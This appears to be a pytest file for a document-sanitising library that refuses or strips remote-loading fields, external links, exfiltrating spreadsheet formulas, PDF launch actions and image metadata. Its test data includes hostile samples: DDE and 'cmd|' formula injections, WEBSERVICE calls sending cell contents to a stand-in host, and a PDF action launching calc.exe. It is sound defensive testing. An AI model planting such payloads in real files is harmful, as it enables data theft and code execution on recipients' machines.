"""What hides in another place than the usual one is refused or taken out all the same."""

import csv
import io
import zipfile
import zlib

import docx
import openpyxl
import pikepdf
import pytest
from PIL import Image, PngImagePlugin

from suar.files.cleaning.codes import Note
from suar.files.cleaning.dispatch import clean
from suar.files.cleaning.pictures import strip_picture
from suar.files.tests import made_files as made
from suar.kit.problem import Problem
from suar.kit.reasons import Reason

FIELD = (
    '<?xml version="1.0" encoding="{encoding}"?>'
    '<w:hdr xmlns:w="{space}"><w:p><w:r><w:instrText> INCLUDEPICTURE "http://away/x.png" '
    "</w:instrText></w:r></w:p></w:hdr>"
)
USUAL = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
RELATION = (
    '<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="{target}"{mode}/></Relationships>'
)


def _related(kind, target, mode=""):
    line = RELATION.format(kind=kind, target=target, mode=mode).encode()
    return {"word/_rels/document.xml.rels": lambda p: p.replace(b"</Relationships>", line)}


@pytest.mark.parametrize(
    ("name", "space", "encoding"),
    [
        ("word/header9.xml", USUAL, "UTF-16"),
        ("word/header9.xml", STRICT, "UTF-8"),
        ("elsewhere/header9.xml", USUAL, "UTF-8"),
        ("Word/header9.bin", USUAL, "UTF-16"),
    ],
)
def test_a_field_that_loads_is_refused_in_any_folder_encoding_and_edition(name, space, encoding):
    part = FIELD.format(space=space, encoding=encoding).encode(encoding)
    with pytest.raises(Problem) as refusal:
        clean(made.rezipped(made.word(), add={name: part}), "a.docx")
    assert refusal.value.reasons[0].code == Reason.FILE_OUTSIDE


def test_another_document_inside_a_word_file_is_refused_wherever_it_lies():
    page = {"word/text.html": b"<html><img src='http://away/x.png'/></html>"}
    with pytest.raises(Problem) as refusal:
        clean(
            made.rezipped(made.word(), add=page, change=_related("aFChunk", "text.html")), "a.docx"
        )
    assert refusal.value.reasons[0].code == Reason.FILE_EMBEDDED


def test_a_click_leads_to_the_web_or_nowhere():
    outside = ' TargetMode="External"'
    for target in ("//server/share", "ms-word:ofe|u|http://away", "search-ms:query=x"):
        data = made.rezipped(made.word(), change=_related("hyperlink", target, outside))
        with zipfile.ZipFile(io.BytesIO(clean(data, "a.docx").clean_bytes)) as package:
            assert target.encode() not in package.read("word/_rels/document.xml.rels")


def test_a_formula_that_asks_another_computer_goes_and_the_sum_stays():
    book = openpyxl.Workbook()
    book.active["A1"] = "=SUM(B1:B2)"
    book.active["A2"] = '=_xlfn.IMAGE("https://away/x.png")'
    book.active["A3"] = '=WEBSERVICE("https://away/"&A1)'
    out = io.BytesIO()
    book.save(out)
    again = openpyxl.load_workbook(io.BytesIO(clean(out.getvalue(), "a.xlsx").clean_bytes)).active
    assert [again[cell].value for cell in ("A1", "A2", "A3")] == ["=SUM(B1:B2)", None, None]


@pytest.mark.parametrize("cut", ["", "<!-- x -->", "<?x y?>", "</w:instrText><w:instrText>"])
@pytest.mark.parametrize("space", [" ", ""])
def test_a_field_that_loads_is_refused_however_its_word_is_cut(cut, space):
    field = f'<w:r><w:instrText>INCLUDE{cut}PICTURE{space}"http://away/x.png"</w:instrText></w:r>'
    data = made.rezipped(
        made.word(),
        change={"word/document.xml": lambda p: p.replace(b"</w:p>", field.encode() + b"</w:p>", 1)},
    )
    with pytest.raises(Problem) as refusal:
        clean(data, "a.docx")
    assert refusal.value.reasons[0].code == Reason.FILE_OUTSIDE


def test_a_part_that_begins_with_a_long_emptiness_is_read_all_the_same():
    part = b" \n" * 500 + FIELD.split("?>", 1)[1].format(space=USUAL).encode()
    with pytest.raises(Problem) as refusal:
        clean(made.rezipped(made.word(), add={"word/header9.bin": part}), "a.docx")
    assert refusal.value.reasons[0].code == Reason.FILE_OUTSIDE


ASKING = [
    'WEB<!-- x -->SERVICE("http://away/?q="&amp;A1)', 'WEB<?x y?>SERVICE("http://away/")',
    '<![CDATA[WEBSERVICE("http://away/")]]>', 'WEB<x/>SERVICE("http://away/")',
    '_xlfn.WEBSERVICE("http://away/")', 'DDE("soffice";"/away/passwd";"A1")',
    'IMPORTDATA("http://away/"&amp;A1)', 'IMPORTXML("http://away/","//a")',
    'IMPORTHTML("http://away/","table",1)', 'IMPORTFEED("http://away/")',
    'IMPORTRANGE("http://away/","A1")', "cmd<!-- -->&#124;'/C away'!A0",
    "'C:\\away\\[book.xlsx]Sheet1'!A1", "'file:///away/x.ods'#$Sheet1.A1",
]  # fmt: skip


@pytest.mark.parametrize("formula", ASKING)
def test_a_formula_that_asks_goes_however_it_is_written(formula):
    row = f'<row r="90"><c r="A90"><f>{formula}</f><v>17</v></c></row></sheetData>'
    page = "xl/worksheets/sheet1.xml"
    data = made.rezipped(
        made.sheet(), change={page: lambda p: p.replace(b"</sheetData>", row.encode())}
    )
    copy = clean(data, "a.xlsx").clean_bytes
    with zipfile.ZipFile(io.BytesIO(copy)) as package:
        assert b"away" not in package.read(page)
    again = openpyxl.load_workbook(io.BytesIO(copy)).active
    assert (again["A90"].value, again["B2"].value) == (17, "=SUM(B1:B1)")


@pytest.mark.parametrize("tag", ["calculatedColumnFormula", "totalsRowFormula"])
def test_a_formula_of_a_whole_column_goes_too(tag):
    table = (
        '<table xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" id="1" name="T"'
        ' displayName="T" ref="A1:A2"><tableColumns count="1"><tableColumn id="1" name="nama">'
        f'<{tag}>WEBSERVICE("http://away/")</{tag}></tableColumn></tableColumns></table>'
    )
    data = made.rezipped(made.sheet(), add={"xl/tables/table1.xml": table.encode()})
    with zipfile.ZipFile(io.BytesIO(clean(data, "a.xlsx").clean_bytes)) as package:
        kept = package.read("xl/tables/table1.xml")
    assert b"away" not in kept
    assert b"nama" in kept


def test_a_photo_in_a_word_file_loses_its_marks_whatever_it_is_called():
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", made.CANARY.decode())
    picture, exif = Image.new("RGB", (20, 20), "red"), Image.Exif()
    exif[0x010F] = made.CANARY.decode()
    png = io.BytesIO()
    picture.save(png, "PNG", pnginfo=info, exif=exif)
    document = docx.Document()
    document.add_picture(io.BytesIO(made.jpeg()))
    document.add_picture(io.BytesIO(png.getvalue()))
    out = io.BytesIO()
    document.save(out)
    data = made.rezipped(out.getvalue(), add={"word/media/second.png": made.jpeg()})
    with zipfile.ZipFile(io.BytesIO(clean(data, "a.docx").clean_bytes)) as package:
        pictures = [package.read(n) for n in package.namelist() if n.startswith("word/media/")]
    assert len(pictures) == 3
    for bare in pictures:
        assert made.CANARY not in bare
        Image.open(io.BytesIO(bare)).load()


@pytest.mark.parametrize("how", [{}, {"progressive": True}, {"restart_marker_rows": 1}])
def test_a_second_picture_behind_a_photo_goes_and_the_pixels_stay(how):
    photo = io.BytesIO()
    before = Image.radial_gradient("L").convert("RGB")
    before.save(photo, "JPEG", **how)
    bare = strip_picture(photo.getvalue() + made.jpeg())
    assert made.CANARY not in bare
    assert Image.open(io.BytesIO(bare)).tobytes() == Image.open(photo).tobytes()


@pytest.mark.parametrize("between", [b"", b"\0", b"\0" * 9])
def test_what_stands_between_two_marks_of_a_photo_hides_nothing(between):
    photo = made.jpeg()
    bare = strip_picture(photo[:2] + between + photo[2:])
    assert made.CANARY not in bare
    Image.open(io.BytesIO(bare)).load()


def _pdf_with(photo, *filters):
    document = pikepdf.open(io.BytesIO(made.pdf()))
    image = pikepdf.Stream(document, b"")
    image.write(photo, filter=pikepdf.Array([pikepdf.Name(f) for f in filters]))
    image.Type, image.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    image.Width, image.Height, image.BitsPerComponent = 64, 48, 8
    image.ColorSpace = pikepdf.Name.DeviceRGB
    document.pages[0].Resources.XObject = pikepdf.Dictionary(Im0=document.make_indirect(image))
    document.pages[0].Contents = document.make_stream(b"/Im0 Do")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


@pytest.mark.parametrize("packed", [False, True])
def test_a_photo_in_a_pdf_loses_its_marks_also_where_it_is_packed_once_more(packed):
    photo = made.jpeg()
    filters = ("/FlateDecode", "/DCTDecode") if packed else ("/DCTDecode",)
    data = _pdf_with(zlib.compress(photo) if packed else photo, *filters)
    with pikepdf.open(io.BytesIO(clean(data, "a.pdf").clean_bytes)) as document:
        bare = document.pages[0].Resources.XObject.Im0.read_raw_bytes()
    assert made.CANARY not in bare
    assert Image.open(io.BytesIO(bare)).size == (64, 48)


def test_a_photo_of_the_newer_kind_in_a_pdf_loses_its_marks_and_keeps_its_pixels():
    before, kept = Image.radial_gradient("L").convert("RGB"), io.BytesIO()
    before.save(kept, "JPEG2000")
    marks = [made.box(kind, made.CANARY) for kind in (b"uuid", b"xml ", b"uinf")]
    head = 32  # signature and file type come first
    photo = kept.getvalue()[:head] + b"".join(marks) + kept.getvalue()[head:]
    data = _pdf_with(photo, "/JPXDecode")
    with pikepdf.open(io.BytesIO(clean(data, "a.pdf").clean_bytes)) as document:
        bare = document.pages[0].Resources.XObject.Im0.read_raw_bytes()
    assert made.CANARY not in bare
    assert Image.open(io.BytesIO(bare)).tobytes() == before.tobytes()


@pytest.mark.parametrize("false", ["/Foo", "/Annot", "/StructElem"])
def test_a_pdf_does_not_run_a_program_under_a_false_type(false):
    document = pikepdf.open(io.BytesIO(made.pdf()))
    action = pikepdf.Dictionary(
        Type=pikepdf.Name(false), S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe")
    )
    rest = {"Type": pikepdf.Name.Annot, "Subtype": pikepdf.Name.Link, "Rect": [0, 0, 9, 9]}
    document.pages[0].Annots = pikepdf.Array(
        [pikepdf.Dictionary(A=action, **rest),
         pikepdf.Dictionary(A=document.make_indirect(action), **rest)]
    )  # fmt: skip
    out = io.BytesIO()
    document.save(out)
    copy = clean(out.getvalue(), "a.pdf")
    assert Note.ACTIVE in copy.notes
    with pikepdf.open(io.BytesIO(copy.clean_bytes)) as shown:
        assert all("/A" not in link for link in shown.pages[0].Annots)


def test_a_cell_stays_text_where_another_program_cuts_it_in_two():
    data = (
        b'nama,catatan\r\nSri,"x;=HYPERLINK(1)"\r\nAni,"a\n=cmd|x!A1"\r\nJl. Mawar 5,"a;-5;b"\r\n'
    )
    copy = clean(data, "daftar.csv")
    rows = list(csv.reader(io.StringIO(copy.clean_bytes.decode(), newline="")))
    assert rows[1:] == [["Sri", "x;'=HYPERLINK(1)"], ["Ani", "a\n'=cmd|x!A1"],
                        ["Jl. Mawar 5", "a;-5;b"]]  # fmt: skip
    assert Note.FORMULAS in copy.notes
